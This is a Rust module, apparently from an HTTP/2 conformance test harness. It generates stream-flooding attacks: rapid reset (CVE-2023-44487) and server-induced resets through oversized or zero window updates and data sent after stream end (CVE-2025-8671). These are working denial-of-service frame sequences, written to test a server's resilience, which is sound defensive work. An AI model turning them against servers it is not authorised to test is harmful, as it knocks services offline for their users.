//! Streams that are opened and reset, or that the server is made to reset.

use conformance_wire::frames::{
    CANCEL, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, RST_STREAM, WINDOW_UPDATE, header_block,
};

use super::{Attack, Means, POST_TO_ROOT, RUN, framed, streams};
use serde_json::json;

/// The largest increment of a window. A window is 65535 bytes before.
const TOO_MUCH: u32 = 0x7fff_ffff;

pub(super) fn all(means: &Means) -> Vec<Attack> {
    let count = 10_000 * means.scale;
    let open = |stream| Frame::new(HEADERS, END_HEADERS, stream, POST_TO_ROOT);
    let reset = |stream| Frame::new(RST_STREAM, 0, stream, CANCEL.to_be_bytes());
    let head = header_block(&means.signed(RUN));
    let long = framed(RUN, &json!({"gridSize": 256, "steps": 10_000}));
    vec![
        // CVE-2023-44487.
        Attack::new(
            "rapid reset without a key",
            4,
            streams(count, |stream| {
                vec![
                    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT),
                    reset(stream),
                ]
            }),
        ),
        Attack::new(
            "rapid reset of computations",
            4,
            streams(count / 2, |stream| {
                let head = Frame::new(HEADERS, END_HEADERS, stream, head.clone());
                vec![head, Frame::body(long.clone(), stream), reset(stream)]
            }),
        ),
        // CVE-2025-8671: the server resets, and so has the work of it.
        Attack::new(
            "made to reset by windows too large",
            4,
            streams(count, |stream| {
                vec![open(stream), Frame::new(WINDOW_UPDATE, 0, stream, TOO_MUCH.to_be_bytes())]
            }),
        )
        .that_must_end(),
        Attack::new(
            "made to reset by increments of nothing",
            4,
            streams(count, |stream| {
                vec![open(stream), Frame::new(WINDOW_UPDATE, 0, stream, [0; 4])]
            }),
        )
        .that_must_end(),
        Attack::new(
            "made to reset by data after the end",
            4,
            streams(count, |stream| {
                let ended = Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT);
                vec![ended, Frame::new(DATA, 0, stream, *b"more")]
            }),
        ),
    ]
}
